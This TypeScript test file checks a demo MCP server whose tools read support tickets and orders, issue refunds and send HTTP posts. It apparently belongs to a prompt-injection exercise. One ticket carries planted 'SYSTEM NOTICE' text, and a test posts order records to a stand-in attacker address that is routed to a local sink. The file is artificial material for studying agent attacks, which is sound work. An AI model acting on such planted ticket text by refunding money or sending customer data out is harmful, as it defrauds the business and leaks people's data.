import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { attackerUrl, orders, ticketIds } from './data.ts';

const sink = createServer();
const client = new Client({ name: 'test', version: '1.0.0' });

before(async () => {
  sink.listen(0, '127.0.0.1');
  await once(sink, 'listening');
  const { port } = sink.address() as AddressInfo;
  await client.connect(
    new StdioClientTransport({
      command: process.execPath,
      args: [`${import.meta.dirname}/mcp-server.ts`],
      env: { DEMO_SINK_URL: `http://127.0.0.1:${port}/` },
    }),
  );
});
after(async () => {
  await client.close();
  sink.close();
});

test('offers four tools with schemas and descriptions', async () => {
  const { tools } = await client.listTools();
  assert.deepEqual(
    tools.map((tool) => tool.name),
    ['tickets.read', 'orders.read', 'payments.refund', 'http.post'],
  );
  for (const tool of tools) {
    assert.ok((tool.description ?? '').length > 20);
    assert.ok(Object.keys(tool.inputSchema.properties ?? {}).length > 0);
  }
  assert.deepEqual(tools[2]?.inputSchema.required, ['order_id', 'amount', 'currency', 'reason']);
});

test('reads tickets and orders', async () => {
  const ticket = await call('tickets.read', { ticket_id: ticketIds.injected });
  assert.match(JSON.parse(ticket.text).body, /SYSTEM NOTICE/);
  const read = await call('orders.read', { order_ids: ['A-1036', 'A-1038', 'A-0000'] });
  assert.deepEqual(
    JSON.parse(read.text).orders.map((order: { order_id: string }) => order.order_id),
    ['A-1036', 'A-1038'],
  );
});

test('pays back at most what was paid', async () => {
  const refund = { order_id: 'A-1038', amount: 1849, currency: 'EUR', reason: 'goodwill' };
  const first = await call('payments.refund', refund);
  assert.equal(JSON.parse(first.text).status, 'paid');
  const second = await call('payments.refund', refund);
  assert.ok(second.isError);
});

test('delivers a post to the sink alone, whatever its address', async () => {
  const arrived = new Promise<{ url: unknown; body: string }>((resolve) => {
    sink.once('request', async (request, response) => {
      let body = '';
      for await (const chunk of request) body += chunk;
      response.writeHead(201).end();
      resolve({ url: request.headers['x-demo-url'], body });
    });
  });
  const posted = await call('http.post', { url: attackerUrl, body: 'three records' });
  assert.deepEqual(JSON.parse(posted.text), { url: attackerUrl, status: 201, bytes: 13 });
  assert.deepEqual(await arrived, { url: attackerUrl, body: 'three records' });
});

test('answers wrong arguments and unknown names with an error the model can read', async () => {
  const wrong = await call('payments.refund', { order_id: 'A-1036', amount: -1, currency: 'EUR', reason: 'x' });
  assert.ok(wrong.isError);
  assert.match(wrong.text, /amount/);
  assert.ok((await call('orders.read', { order_ids: ['Z-1'] })).isError);
  assert.ok((await call('tickets.read', { ticket_id: '1' })).isError);
  assert.ok((await call('files.delete', {})).isError);
});

test('people in the data are reachable nowhere', () => {
  for (const { customer } of orders) assert.match(customer.email, /@example\.(com|org|net)$/);
  assert.match(new URL(attackerUrl).hostname, /\.example$/);
});

async function call(name: string, args: Record<string, unknown>): Promise<{ text: string; isError: boolean }> {
  const result = await client.callTool({ name, arguments: args });
  const content = result.content as { type: string; text: string }[];
  return { text: content[0]!.text, isError: result.isError === true };
}
